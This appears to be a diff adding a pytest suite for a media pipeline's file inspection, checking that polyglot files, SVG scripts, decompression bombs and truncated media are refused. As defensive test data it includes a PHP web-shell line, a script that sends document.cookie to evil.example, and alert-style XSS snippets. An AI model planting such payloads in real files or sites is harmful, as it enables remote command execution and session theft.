@@ -1,0 +1,253 @@
+"""What a file truly is: ordinary ones pass, those that are two things at once do not."""
+
+from __future__ import annotations
+
+import gzip
+import io
+import struct
+import zipfile
+import zlib
+from collections import Counter
+from pathlib import Path
+
+import numpy as np
+import pyarrow.parquet as pq
+import pytest
+from PIL import Image as pillow
+
+from pipeline.config import MediaLimits
+from pipeline.data.inspection import FORMATS, check_file
+from pipeline.data.media import decode, encode_png
+from pipeline.data.schema import MEDIA_COLUMNS, Reason, RowError
+from pipeline.records import Audio, MediaKind, Medium
+from tests.data.files import image_file, ordinary, pixels, sound_file, sounds, tone, video_file
+
+LIMITS = MediaLimits()
+PICTURE = pillow.fromarray(pixels(24, 32))
+PNG, JPEG = encode_png(pixels(24, 32)), image_file(PICTURE, "JPEG")
+WITH_ENDS = {
+    "PNG": Medium(MediaKind.IMAGE, PNG),
+    "JPEG": Medium(MediaKind.IMAGE, JPEG),
+    "GIF": Medium(MediaKind.IMAGE, image_file(PICTURE, "GIF")),
+    "WebP": Medium(MediaKind.IMAGE, image_file(PICTURE, "WEBP")),
+    "BMP": Medium(MediaKind.IMAGE, image_file(PICTURE, "BMP")),
+    "WAV": Medium(MediaKind.AUDIO, sound_file(tone())),
+    "AIFF": Medium(MediaKind.AUDIO, sound_file(tone(), format="AIFF")),
+    "Ogg": Medium(MediaKind.AUDIO, sound_file(tone(), format="OGG")),
+    "MP4": Medium(MediaKind.VIDEO, video_file()),
+    "Matroska": Medium(MediaKind.VIDEO, video_file("matroska", "ffv1")),
+    "AVI": Medium(MediaKind.VIDEO, video_file("avi", "mpeg4")),
+}
+WITHOUT_ENDS = {
+    "TIFF": Medium(MediaKind.IMAGE, image_file(PICTURE, "TIFF")),
+    "FLAC": Medium(MediaKind.AUDIO, sound_file(tone(), format="FLAC")),
+    "MP3": Medium(MediaKind.AUDIO, sound_file(tone(), format="MP3")),
+}
+
+
+def archive() -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as file:
+        file.writestr("a.txt", "hello")
+    return buffer.getvalue()
+
+
+def refused(medium: Medium) -> RowError:
+    with pytest.raises(RowError) as caught:
+        decode(medium, LIMITS)
+    return caught.value
+
+
+def longer(medium: Medium, tail: bytes) -> Medium:
+    return Medium(medium.kind, medium.data + tail)
+
+
+def test_every_ordinary_file_is_decoded() -> None:
+    seen: Counter[str] = Counter()
+    for name, medium in ordinary():
+        try:
+            decode(medium, LIMITS)
+        except RowError as error:
+            pytest.fail(f"{name}: {error}")
+        seen[next(each.name for each in FORMATS if each.kind is medium.kind and each.mark.match(medium.data))] += 1
+    assert set(seen) >= {each.name for each in FORMATS} - {"WAV (big endian)"}
+    assert seen.total() > 150
+
+
+def test_the_built_in_media_pass(demo_data: Path) -> None:
+    num_files = 0
+    for row in pq.read_table(demo_data / "test.parquet").to_pylist():
+        for kind, column in MEDIA_COLUMNS.items():
+            for file in row[column]:
+                check_file(Medium(kind, file["bytes"]))
+                num_files += 1
+    assert num_files > 10
+
+
+@pytest.mark.parametrize("name", WITH_ENDS)
+def test_what_lies_behind_the_end_is_refused_and_padding_is_not(name: str) -> None:
+    medium = WITH_ENDS[name]
+    decode(longer(medium, bytes(4_096)), LIMITS)
+    decode(longer(medium, b"\r\n"), LIMITS)
+    error = refused(longer(medium, b"\x07\x13 another file"))
+    assert error.reason is Reason.POLYGLOT
+    assert error.detail == f"15 bytes behind the end of a {name}"
+
+
+@pytest.mark.parametrize("name", [*WITH_ENDS, *WITHOUT_ENDS])
+def test_no_file_is_also_an_archive_or_a_page(name: str) -> None:
+    medium = (WITH_ENDS | WITHOUT_ENDS)[name]
+    for tail in (
+        archive(),
+        archive() + bytes(40_000),
+        b"<?php system($_GET[0]); ?>".rjust(50),
+        b"<!DOCTYPE html><script>alert(1)</script>",
+    ):
+        assert refused(longer(medium, tail)).reason is Reason.POLYGLOT
+    if name != "TIFF":  # which may end in a text of its own
+        script = b"*/=1;fetch('//evil.example/'+document.cookie);//abcdefghijklmnop"
+        assert refused(longer(medium, script)).reason is Reason.POLYGLOT
+
+
+def test_an_archive_whose_letters_turn_up_by_chance_is_none() -> None:
+    by_chance = b"PK\x05\x06" + np.random.default_rng(0).bytes(40)
+    noise = sound_file(np.frombuffer(by_chance * 900, np.int16), subtype="PCM_16")
+    assert b"PK\x05\x06" in noise
+    decode(Medium(MediaKind.AUDIO, noise), LIMITS)
+    exif = pillow.Exif()
+    exif[0x010E] = by_chance.hex() + "PK\x05\x06"
+    decode(Medium(MediaKind.IMAGE, image_file(PICTURE, "JPEG", exif=exif)), LIMITS)
+
+
+@pytest.mark.parametrize(
+    ("what", "data"),
+    [
+        ("a PDF", JPEG[:20].replace(b"JFIF", b"JFIF") + b"\xff\xfe\x00\x12%PDF-1.7 0000000" + JPEG[20:]),
+        ("holds", JPEG[:20] + b"\xff\xfe\x00\x1c<script>alert(1)</script> " + JPEG[20:]),
+        ("an RAR archive", JPEG[:20] + b"\xff\xfe\x00\x0eRar!\x1a\x07\x01\x00xxxx" + JPEG[20:]),
+        ("a tar archive", (JPEG[:20] + b"\xff\xfe\x02\x02" + bytes(512))[:257] + b"ustar" + bytes(274) + JPEG[20:]),
+        ("an MP4", b"\xff\xd8\xff\xe0ftypisom" + JPEG[2:]),
+    ],
+)
+def test_no_picture_is_also_something_else_from_its_beginning(what: str, data: bytes) -> None:
+    error = refused(Medium(MediaKind.IMAGE, data))
+    assert error.reason is Reason.POLYGLOT
+    assert what in error.detail
+
+
+SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        SVG,
+        b"\xef\xbb\xbf  <?xml version='1.0'?>\n<!-- a picture -->\n" + SVG,
+        b"<!DOCTYPE svg PUBLIC '-//W3C//DTD SVG 1.1//EN' ''>" + SVG,
+        b"\xff\xfe" + SVG.decode().encode("utf-16-le"),
+        gzip.compress(SVG),
+    ],
+    ids=["plain", "declared", "doctype", "utf-16", "gzip"],
+)
+def test_vector_pictures_are_refused_by_name(data: bytes) -> None:
+    assert refused(Medium(MediaKind.IMAGE, data)).reason is Reason.SVG
+
+
+@pytest.mark.parametrize(
+    ("kind", "data", "detail"),
+    [
+        (MediaKind.IMAGE, b"", "no format that is known"),
+        (MediaKind.IMAGE, b"<html><body>404 Not Found</body></html>", "markup"),
+        (MediaKind.IMAGE, WITH_ENDS["WAV"].data, "WAV: none of PNG, JPEG"),
+        (MediaKind.AUDIO, PNG, "PNG: none of WAV"),
+        (MediaKind.VIDEO, PNG, "PNG: none of MP4"),
+        (MediaKind.AUDIO, WITH_ENDS["MP4"].data, "MP4: none of WAV"),
+        (MediaKind.IMAGE, b"%!PS-Adobe-3.0 EPSF-3.0", "no format"),
+        (MediaKind.VIDEO, b"ffconcat version 1.0", "no format"),
+    ],
+)
+def test_a_file_of_another_kind_is_named(kind: MediaKind, data: bytes, detail: str) -> None:
+    error = refused(Medium(kind, data))
+    assert error.reason.value == f"corrupt_{kind.value}"
+    assert detail in error.detail
+
+
+def test_what_phones_append_to_a_photograph_is_let_through() -> None:
+    video = video_file()
+    motion = image_file(PICTURE, "JPEG", xmp=b"<x:xmpmeta xmlns:GCamera='' GCamera:MotionPhoto='1'/>")
+    samsung = b"\0\0\x30\x0aMotionPhoto_Data" + video + b"SEFHk\0\0\0\x01\0\0\0" + bytes(12) + b"\x18\0\0\0SEFT"
+    for data in (
+        JPEG + JPEG,  # a gain map
+        JPEG + bytes(512) + JPEG + bytes(32),
+        motion + video,
+        motion + JPEG + video + bytes(16),
+        JPEG + samsung,
+        JPEG + b"CANON OPTIONAL DATA\0" + bytes(range(256)),
+    ):
+        decode(Medium(MediaKind.IMAGE, data), LIMITS)
+    assert refused(Medium(MediaKind.IMAGE, JPEG + video)).reason is Reason.POLYGLOT, "nothing announces it"
+    assert refused(Medium(MediaKind.IMAGE, motion + video + archive())).reason is Reason.POLYGLOT
+
+
+def png_chunk(name: bytes, body: bytes) -> bytes:
+    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))
+
+
+def test_bombs_in_metadata_and_in_numbers_of_frames_are_bounded() -> None:
+    head, rest = PNG[:33], PNG[33:]
+    bomb = zlib.compress(bytes(50_000_000), 9)
+    for name, body in [(b"zTXt", b"k\0\0" + bomb), (b"iTXt", b"k\0\1\0\0\0" + bomb), (b"iCCP", b"k\0\0" + bomb)]:
+        medium = Medium(MediaKind.IMAGE, head + png_chunk(name, body) + rest)
+        try:
+            decode(medium, LIMITS)
+        except RowError as error:
+            assert error.reason is Reason.CORRUPT_IMAGE
+    frames = head + png_chunk(b"acTL", struct.pack(">II", 10_001, 0)) + rest
+    assert refused(Medium(MediaKind.IMAGE, frames)).reason is Reason.TOO_MANY_FRAMES
+    gif = WITH_ENDS["GIF"].data
+    flags = gif[10]
+    first = 13 + 3 * 2 ** ((flags & 7) + 1)
+    many = gif[:first] + gif[first:-1] * 10_001 + b";"
+    assert refused(Medium(MediaKind.IMAGE, many)).reason is Reason.TOO_MANY_FRAMES
+    endless = head + png_chunk(b"tEXt", b"") * 300_000 + rest
+    error = refused(Medium(MediaKind.IMAGE, endless))
+    assert (error.reason, error.detail) == (Reason.CORRUPT_IMAGE, "a PNG of over 262144 parts")
+
+
+@pytest.mark.parametrize("name", [*WITH_ENDS, *WITHOUT_ENDS])
+def test_a_file_that_is_cut_off_anywhere_is_refused_with_a_reason_of_its_kind(name: str) -> None:
+    medium = (WITH_ENDS | WITHOUT_ENDS)[name]
+    for length in [*range(0, 64), *np.linspace(64, len(medium.data) - 1, 40).astype(int)]:
+        try:
+            decode(Medium(medium.kind, medium.data[:length]), LIMITS)
+        except RowError as error:
+            assert error.reason in (
+                Reason(f"corrupt_{medium.kind.value}"),
+                Reason.SOUND_TOO_SHORT,
+                Reason.POLYGLOT,
+            ), error
+
+
+def test_a_sound_that_is_cut_off_is_not_taken_for_a_shorter_one() -> None:
+    for name, data in sounds():
+        if name.startswith("NIST"):  # which libsndfile reads as far as it goes
+            continue
+        for share in (0.3, 0.6, 0.8):
+            with pytest.raises(RowError) as caught:
+                decode(Medium(MediaKind.AUDIO, data[: int(share * len(data))]), LIMITS)
+                pytest.fail(f"{share} of {name}")
+            assert caught.value.reason is Reason.CORRUPT_AUDIO, f"{name}: {caught.value}"
+
+
+def test_a_sound_whose_recorder_did_not_know_its_length_is_read_to_its_end() -> None:
+    wav, flac = bytearray(sound_file(tone(16_000))), bytearray(sound_file(tone(16_000), format="FLAC"))
+    place = wav.index(b"data")
+    wav[4:8] = wav[place + 4 : place + 8] = b"\xff\xff\xff\xff"
+    flac[21] &= 0xF0  # 36 bits of the number of samples
+    flac[22:26] = bytes(4)
+    for data in (wav, flac):
+        sound = decode(Medium(MediaKind.AUDIO, bytes(data)), LIMITS)
+        assert isinstance(sound, Audio) and len(sound.samples) == 16_000
+        with pytest.raises(RowError) as caught:
+            decode(Medium(MediaKind.AUDIO, bytes(data)), MediaLimits(max_seconds=0.5))
+        assert caught.value.reason is Reason.TOO_LONG
